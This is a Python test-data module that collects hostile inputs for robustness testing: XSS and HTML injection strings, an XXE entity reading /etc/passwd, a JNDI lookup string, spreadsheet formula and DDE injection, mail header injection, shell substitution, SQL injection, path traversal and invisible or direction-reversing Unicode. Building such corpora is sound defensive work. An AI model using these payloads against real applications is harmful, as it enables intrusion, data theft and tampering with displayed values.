"""Texts that try to be something else: markup, scripts, formulas, header fields, templates, or another figure."""

import json
import os
import pathlib
import random
import re

MARK = "window.__pwned=(window.__pwned||0)+1"

SHARP = [
    # Markup and scripts.
    f"<script>{MARK}</script>", f"</title><script>{MARK}</script>", f"\"><script>{MARK}</script>", f"'><svg/onload={MARK}>",
    f"<img src=x onerror=\"{MARK}\">", f"\" onmouseover=\"{MARK}\" x=\"", f"' autofocus onfocus='{MARK}' x='",
    f"<body onload={MARK}>", f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>", f"<a href=\"javascript:{MARK}\">x</a>",
    f"javascript:{MARK}", "data:text/html,<script>alert(1)</script>", "<style>*{display:none}</style>",
    "</style><style>@import 'http://x.example/'</style>", "\" style=\"position:fixed;inset:0\" x=\"",
    "<link rel=stylesheet href=http://x.example/a.css>", "<meta http-equiv=refresh content='0;url=http://x.example/'>",
    "<base href=http://x.example/>", "<form action=http://x.example/><button>x</button></form>", "<plaintext>", "<!--", "-->", "<!-- x",
    "--!>", "<![CDATA[x]]>", "]]>", "]]&gt;", "<?xml version='1.0'?>", "<?php echo 1 ?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&e;", "&amp;", "&lt;b&gt;", "&#60;script&#62;", "&#x202E;", "&nbsp;", "&", "&&", "<", ">", "\"", "'", "<b", "</", "</td></tr></table>",
    "<br/>", "<br>", "\\u003cscript\\u003e", "`${1}`", "${jndi:ldap://x.example/a}",
    # Templates.
    "{{{x}}}", "{{x}}", "{{#x}}a{{/x}}", "{{^x}}", "{{>head}}", "{{!x}}", "{{=<% %>=}}", "{%x%}", "<%=x%>", "#{x}", "{{", "}}",
    # Spreadsheets.
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://x.example/\",\"x\")", "'=1+1", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "\"=1+1\"", "=\"x\"", ";=1+1", "x,=1+1", "x\n=1+1", "DDE(\"cmd\";\"/C calc\")",
    # Mail.
    "x\r\nBcc: a@x.example", "x\nSubject: y", "x\rTo: a@x.example", "\r\n\r\nbody", "=?UTF-8?B?QmNjOiBhQHguZXhhbXBsZQ==?=",
    "=?utf-8?q?=0D=0ABcc:_a@x.example?=", "a@x.example, b@x.example", "\"x\" <a@x.example>", "--boundary--", ".\r\nQUIT", "x" * 998,
    # Direction and invisibility: what is read is not what is there.
    "\u202e001\u202c", "达成\u202e%09\u202c", "\u2066\u20670.5\u2069", "90\u200b%", "1\u200d0", "\u061c90", "9\u00ad0", "\ufeff90", "名\u3164称",
    "名\ufe0f称", "名\U000e0041称", "名\u2028称", "名\u2029称", "\u2800", "a\u0301\u0301\u0301\u0301\u0301", "\u034f", "\ufff9x\ufffb",
    "\u115f", "\u180e", "\u2063",
    # Characters at the edge of Unicode.
    "\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\U0010ffff", "😀👨‍👩‍👧", "𠮷", "\ufffd", "Ω≈ç√∫˜µ≤≥÷", "ﷺ",
    # Paths, shells, formats.
    "../../x", "/etc/passwd", "CON", "%s%n", "%00", "`id`", "$(id)", "'; DROP TABLE x; --", "\\", "a\tb", "a  b", "见#REF!", "http://x.example/",
]

# These stop a run: a file holding them has an error, and the pages of `check` list it.
REFUSED = [b"a\x00b", b"\x01", b"\x1b[2J\x1b]0;x\x07", b"\x7f", b"\xc2\x85", b"\xed\xa0\x80", b"\xed\xb0\x80\xed\xa0\x80", b"\xc0\xaf", b"\xf5\x80\x80\x80",
           b"\xff", b"\xe4\xb8", b"<script>\x02", b"{{{x}}}\x03", b"=1+1\x04",
           # What a spreadsheet leaves of a text it has taken for a formula.
           b"#REF!", b"1E+02"]


# Nobody sees these in a figure; the first kind makes what is read another figure than what is there.
TURNING = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
UNSEEN = "\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2028\u2029\u2060\u2063\u3164\ufe0f\ufeff\uffa0\ufff9\ufdd0\uffff\U000e0041\U0001ffff"
# What spreadsheets leave of a text or a number is no text: it is among REFUSED.
DAMAGE = re.compile(r"\s*(#[A-Z/0]+[!?]?|[0-9.]+E\+[0-9]+)\s*")
SEED, OWN = 20240119, 180


def own():
    """Texts put together from pieces of the above by a seeded generator, so that there is a long list everywhere."""
    generator = random.Random(SEED)
    pieces = [text for text in SHARP if len(text) < 200] + list(TURNING + UNSEEN) + ["绩效", "90%", "≥", "，", "e\u0301", " ", "\t", "\n"]
    texts = ("".join(generator.choice(pieces) for _ in range(generator.randint(2, 6))) for _ in range(OWN))
    return [text for text in texts if text.strip()]


def naughty():
    """The Big List of Naughty Strings, where a copy is at hand; control characters are among REFUSED."""
    folder = os.environ.get("JIXIAO_CORPORA")
    if not folder:
        return []
    texts = json.loads((pathlib.Path(folder) / "blns" / "blns.json").read_text(encoding="utf-8"))
    return [text for text in texts if text.strip() and not DAMAGE.fullmatch(text) and not any(
        ord(c) < 32 and c not in "\t\n\r" or 0x7F <= ord(c) <= 0x9F for c in text)]
